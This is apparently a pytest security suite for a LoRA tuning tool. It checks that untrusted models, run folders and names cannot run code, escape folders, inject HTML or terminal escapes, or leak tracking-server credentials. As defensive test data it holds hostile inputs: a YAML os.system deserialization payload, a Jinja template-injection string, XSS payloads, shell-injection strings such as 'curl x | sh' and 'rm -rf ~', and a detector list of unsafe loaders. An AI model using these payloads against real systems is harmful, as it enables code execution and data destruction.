"""What comes from elsewhere (models, run folders, names) runs no code, leads out of no folder, and is only text."""

import ast
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

import analysis
import search
import trainables
from analysis.export import export_preset
from analysis.front import front_members
from analysis.records import RunPaths
from analysis.report import render_report
from analysis.report_view import commands
from analysis.results import load_run, read_events
from analysis.tables import front_table, trials_table
from search.credentials import recorded_command, with_credentials
from search.errors import InputError
from search.foreign_run import check_own
from search.terminal import PlainConsole, printable
from tests.analysis.synthetic import write_events, write_run
from tests.tiny import tiny_llama
from trainables.base_models import load_base_model, resolve_base_model

SOURCES = sorted(
    file
    for package in (search, trainables, analysis)
    for file in Path(package.__file__ or "").parent.rglob("*.py")
)
PICKLERS = {
    "pickle",
    "cPickle",
    "_pickle",
    "cloudpickle",
    "dill",
    "joblib",
    "marshal",
    "shelve",
    "jsonpickle",
}
OPENERS = {"read_pickle", "unsafe_load", "full_load", "unpack_archive", "extractall", "eval", "exec"}


def dotted(node: ast.expr) -> str:
    """`torch.load` of the expression that reads so; empty for other expressions."""
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else ""


def is_true(call: ast.Call, option: str) -> bool | None:
    """The constant that a call gives for an option; None without one."""
    values = [keyword.value for keyword in call.keywords if keyword.arg == option]
    return bool(values[0].value) if values and isinstance(values[0], ast.Constant) else None


def dangers(source: str) -> list[str]:
    """What in a module's source could run code that its input brings along."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [name for name in names if name.partition(".")[0] in PICKLERS]
        if not isinstance(node, ast.Call):
            continue
        name = dotted(node.func)
        last = name.rpartition(".")[2]
        if last in OPENERS and name not in ("self.eval", "model.eval"):
            found += [name] if "." not in name or last not in ("eval", "exec") else []
        if (
            name in ("torch.load", "torch.jit.load", "torch.hub.load")
            and is_true(node, "weights_only") is not True
        ):
            found.append(name)
        if name in ("np.load", "numpy.load") and is_true(node, "allow_pickle") is not False:
            found.append(name)
        if name == "yaml.load":
            loaders = [dotted(k.value) for k in node.keywords if k.arg == "Loader"]
            found += [] if loaders == ["_Loader"] else [name]
        found += [f"{name}({o}=True)" for o in ("trust_remote_code", "shell") if is_true(node, o)]
        if (
            last == "from_pretrained"
            and name.startswith("Auto")
            and "gguf_file" not in {k.arg for k in node.keywords}
        ):
            found += (
                []
                if is_true(node, "trust_remote_code") is False
                else [f"{name} without trust_remote_code=False"]
            )
    return found


@pytest.mark.parametrize("file", SOURCES, ids=lambda file: f"{file.parent.name}/{file.name}")
def test_nothing_is_unpickled_or_run(file: Path) -> None:
    assert dangers(file.read_text(encoding="utf-8")) == []


@pytest.mark.parametrize(
    "line",
    [
        "import pickle", "from cloudpickle import loads", "torch.load(path)", "torch.load(path, weights_only=False)",
        "np.load(path)", "np.load(path, allow_pickle=True)", "yaml.load(text, Loader=yaml.Loader)", "eval(text)",
        "yaml.unsafe_load(text)", "archive.extractall(folder)", "subprocess.run(text, shell=True)",
        "AutoModelForCausalLM.from_pretrained(folder)", "pandas.read_pickle(path)", "import joblib.numpy_pickle",
    ],
)  # fmt: skip
def test_the_test_above_would_notice(line: str) -> None:
    assert dangers(line) != []


def test_yaml_of_others_makes_no_objects(tmp_path: Path) -> None:
    from search.yaml_io import read_yaml_mapping

    (tmp_path / "sweep.yaml").write_text("name: !!python/object/apply:os.system ['touch pwned']\n")
    with pytest.raises(InputError, match="not valid YAML"):
        read_yaml_mapping(tmp_path / "sweep.yaml")


# --- models ---


@pytest.fixture
def model(tmp_path: Path) -> Path:
    return tiny_llama(tmp_path / "model")


def test_shards_outside_of_the_model_folder_are_refused(model: Path) -> None:
    shutil.move(model / "model.safetensors", model.parent / "x.safetensors")
    for name in ("../x.safetensors", str(model.parent / "x.safetensors"), "a/../../x.safetensors"):
        (model / "model.safetensors.index.json").write_text(
            json.dumps({"weight_map": {"lm_head.weight": name}})
        )
        with pytest.raises(InputError, match="a shard lies in the model's own folder"):
            resolve_base_model(str(model))


def test_a_model_folder_cannot_name_another_model(model: Path, tmp_path: Path) -> None:
    """Transformers follows an adapter_config.json to the model that it names."""
    other = tiny_llama(tmp_path / "other", seed=1)
    (model / "adapter_config.json").write_text(json.dumps({"base_model_name_or_path": str(other)}))
    with pytest.raises(InputError, match="an adapter_config"):
        resolve_base_model(str(model))
    with pytest.raises(InputError, match="an adapter_config"):
        load_base_model(model, dtype="bf16", device="cpu")


def test_code_that_comes_with_a_model_is_not_run(model: Path, tmp_path: Path) -> None:
    from trainables.data import load_tokenizer

    witness = tmp_path / "pwned"
    (model / "evil.py").write_text(f"open({str(witness)!r}, 'w')\nclass Model: ...\nclass Config: ...\n")
    for file, names in (
        ("config.json", {"AutoConfig": "evil.Config", "AutoModelForCausalLM": "evil.Model"}),
        ("tokenizer_config.json", {"AutoTokenizer": [None, "evil.Model"]}),
    ):
        content = json.loads((model / file).read_text())
        (model / file).write_text(json.dumps({**content, "auto_map": names}))
    load_base_model(model, dtype="bf16", device="cpu")  # llama is known to transformers: its own code does
    load_tokenizer(str(model))
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps({**config, "model_type": "evil"}))
    with pytest.raises(
        InputError, match=r"needs its own code \(trust_remote_code\), which lorafront never runs"
    ):
        load_base_model(model, dtype="bf16", device="cpu")
    assert not witness.exists()


def test_pickled_weights_are_never_opened(model: Path) -> None:
    (model / "model.safetensors").rename(model / "pytorch_model.bin")
    with pytest.raises(InputError, match="pickled weights only"):
        resolve_base_model(str(model))


def test_a_chat_template_reaches_nothing(model: Path) -> None:
    from trainables.chat import encode_all
    from trainables.data import load_tokenizer
    from trainables.examples import Example, Message

    file = model / "tokenizer_config.json"
    template = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    file.write_text(json.dumps({**json.loads(file.read_text()), "chat_template": template}))
    (model / "chat_template.jinja").unlink(missing_ok=True)
    example = Example((Message("user", "a"), Message("assistant", "b")), "g", "f:1")
    with pytest.raises(InputError, match="template"):
        encode_all([example], load_tokenizer(str(model)), 64)


# --- run folders of others ---


def change_trials(run: Path, **changes: Any) -> Path:
    """Give every trial of a run folder other fields."""
    events = read_events(run / "trials.jsonl")
    for event in events:
        for name, value in changes.items():
            if event.trial is not None:
                setattr(event.trial, name, value)
    write_events(run, events)
    return run


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A folder like a checkpoint outside of any run folder."""
    folder = tmp_path / "secret" / "adapter"
    shutil.copytree(next(write_run(tmp_path / "donor").rglob("adapter")), folder)
    (folder / "adapter_model.safetensors").write_text("PRIVATE")
    return folder.parent


def has_private(folder: Path) -> bool:
    files = [file for file in folder.rglob("*") if file.is_file()] if folder.exists() else []
    return any(b"PRIVATE" in file.read_bytes() for file in files)


@pytest.mark.parametrize("how", ["..", "absolute", "linked folder", "linked file"])
def test_checkpoints_outside_of_the_run_folder_are_not_exported(
    tmp_path: Path, secret: Path, how: str
) -> None:
    run = write_run(tmp_path / "run")
    if how == "linked file":
        for weights in run.rglob("adapter_model.safetensors"):
            weights.unlink()
            weights.symlink_to(secret / "adapter" / weights.name)
    elif how == "linked folder":
        (run / "link").symlink_to(secret)
        change_trials(run, checkpoint="link")
    else:
        change_trials(run, checkpoint="../secret" if how == ".." else str(secret))
    loaded = load_run(run)
    for trial in front_members(loaded.front):
        with pytest.raises(InputError, match="run folder"):
            export_preset(loaded, trial, tmp_path / "preset")
    assert not has_private(tmp_path / "preset")


@pytest.mark.parametrize("how", ["..", "linked file", "beside"])
def test_a_warm_start_copies_the_adapter_alone(tmp_path: Path, secret: Path, how: str) -> None:
    from search.history import checkpoint_of
    from search.warm_start import copy_adapter

    run = write_run(tmp_path / "run")
    trial = front_members(load_run(run).front)[0]
    adapter = run / str(trial.checkpoint) / "adapter"
    if how == "..":
        trial = trial.model_copy(update={"checkpoint": "../secret"})
        (secret / "state.json").write_text("{}")
        assert checkpoint_of(trial, RunPaths(run)) is None
        return
    if how == "linked file":
        (adapter / "adapter_model.safetensors").unlink()
        (adapter / "adapter_model.safetensors").symlink_to(secret / "adapter" / "adapter_model.safetensors")
    (adapter / "more").symlink_to(secret)
    taken = trial.model_copy(update={"checkpoint": str(adapter.parent)})
    copy_adapter(taken, RunPaths(tmp_path / "new"))
    assert not has_private(tmp_path / "new")
    assert (tmp_path / "new").exists() == (how == "beside")


@pytest.mark.parametrize("name", ["../../x", "t0001/../../x", "/tmp/x", "t1", "", "t0001\n", "baseline"])
def test_a_run_with_foreign_trial_names_is_not_resumed(tmp_path: Path, name: str) -> None:
    run = change_trials(write_run(tmp_path / "run", baseline=False), trial_id=name)
    with pytest.raises(InputError, match="is no name of a lora trial"):
        check_own(RunPaths(run))


@pytest.mark.parametrize("name", ["trials.jsonl", "optuna.db", "tune", "deep"])
def test_a_run_with_links_to_elsewhere_is_not_resumed(tmp_path: Path, name: str) -> None:
    run = change_trials(write_run(tmp_path / "run", num_trials=1, baseline=False), trial_id="t0001")
    check_own(RunPaths(run))
    path = run / "tune" / "launch-001" if name == "deep" else run / name
    path.parent.mkdir(exist_ok=True)
    if path.exists():
        path.rename(tmp_path / "moved")
    path.symlink_to(tmp_path / "moved")
    with pytest.raises(InputError, match="is a link to"):
        check_own(RunPaths(run))


def test_exporting_for_mlflow_stays_in_its_folder(tmp_path: Path) -> None:
    from search.launch import export_members

    run = write_run(tmp_path / "run")
    events = read_events(run / "trials.jsonl")
    for event in events:
        if event.trial is not None and event.trial.kind == "lora":
            event.trial.trial_id = f"../../{event.trial.trial_id}"
    write_events(run, events)
    (tmp_path / "a" / "b").mkdir(parents=True)
    before = set(tmp_path.iterdir())
    members = export_members(load_run(run).front, RunPaths(run), tmp_path / "a" / "b")
    assert members
    assert all(folder.parent == tmp_path / "a" / "b" for folder in members.values())
    assert set(tmp_path.iterdir()) == before


# --- the report ---

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "<!--<script>",
    "]]><iframe src='javascript:alert(1)'>",
)


class Elements(HTMLParser):
    """Every element of a page with the names of its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


def named_run(run: Path, text: str) -> Path:
    """A run folder in which everything that has a name is called ``text``."""
    write_run(run)
    events = read_events(run / "trials.jsonl")
    for event in events:
        if event.sweep is not None:
            for key in (
                "name",
                "size",
                "created",
                "device",
                "git_commit",
                "base_model",
                "command",
                "search_ended",
            ):
                event.sweep[key] = text
            event.sweep["data"] = {"source": text, "fingerprint": text}
            event.sweep["versions"] = {text: text}
        if event.trial is not None:
            event.trial.trial_id += text
            event.trial.error = text
            if event.trial.kind == "lora":
                event.trial.config["targets"] += text
    write_events(run, events)
    config = yaml.safe_load((run / "sweep.yaml").read_text())
    config |= {"name": text, "base_model": text, "scheduler": text, "space": {text: text}, "seed": text}
    config |= {"execution": {"plugin": text, "dtype": text}, "data": {"source": text, "seq_len": text}}
    (run / "sweep.yaml").write_text(yaml.safe_dump(config))
    return run


@pytest.mark.parametrize("payload", PAYLOADS)
def test_names_make_no_elements_in_the_report(tmp_path: Path, payload: str) -> None:
    harmless = Elements(render_report(load_run(named_run(tmp_path / "harmless", "name"))))
    hostile = render_report(load_run(named_run(tmp_path / "hostile", payload)))
    assert Elements(hostile).found == harmless.found
    assert payload.replace("7 * 7", "49") not in hostile.partition("const FIGURES")[2].partition("\n")[0]


@pytest.mark.parametrize(
    "command", ["lorafront sweep; curl x | sh", "rm -rf ~", "lorafront sweep $(id)", "lorafront 'a"]
)
def test_the_report_offers_no_foreign_command(tmp_path: Path, command: str) -> None:
    run = write_run(tmp_path / "run")
    events = read_events(run / "trials.jsonl")
    for event in events:
        if event.sweep is not None:
            event.sweep["command"] = command
    write_events(run, events)
    shown = dict(commands(load_run(run)))["Run this sweep again"]
    assert shown == f"lorafront sweep --config {run / 'sweep.yaml'}"


# --- the terminal ---


def shown(run: Path) -> str:
    console = PlainConsole(file=io.StringIO(), width=200, force_terminal=True, color_system="truecolor")
    front = load_run(run).front
    console.print(front.name, style="dim")
    for table in (front_table(front), trials_table(front)):
        console.print(table)
    return console.file.getvalue()  # type: ignore[attr-defined, no-any-return]


def test_markup_in_names_is_shown_as_it_is(tmp_path: Path) -> None:
    text = shown(named_run(tmp_path / "run", "[red]x[/red]:bomb:[/]"))
    assert "[red]x[/red]:bomb:[/]" in text


@pytest.mark.parametrize("code", ["\x1b]0;title\x07", "\x1b[2J", "\x9b31m", "\r", "\x08", "\u202e"])
def test_escape_sequences_in_names_do_not_reach_the_terminal(tmp_path: Path, code: str) -> None:
    text = shown(named_run(tmp_path / "run", f"x{code}y"))
    assert "\x1b[2m" in text  # rich's own styles are there
    rest = re.sub(r"\x1b\[[0-9;]*m", "", text).replace("\n", "")
    assert rest.isprintable()
    assert printable(rest) == rest


# --- credentials of the tracking server ---


def test_commands_are_recorded_without_credentials() -> None:
    for arguments in (
        ["--tracking-uri", "http://ann:pa@ss/word@host"],
        ["--tracking-uri=http://ann:s3cret@host"],
    ):
        command = recorded_command(["sweep", *arguments])
        assert "http://host" in command
        assert not any(part in command for part in ("ann", "pa@ss", "word", "s3cret"))


def test_a_resumed_sweep_takes_credentials_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://ann:secret@host:5000")
    assert with_credentials("http://host:5000") == "http://ann:secret@host:5000"
    assert with_credentials("http://other:5000") == "http://other:5000"
    assert with_credentials(None) is None
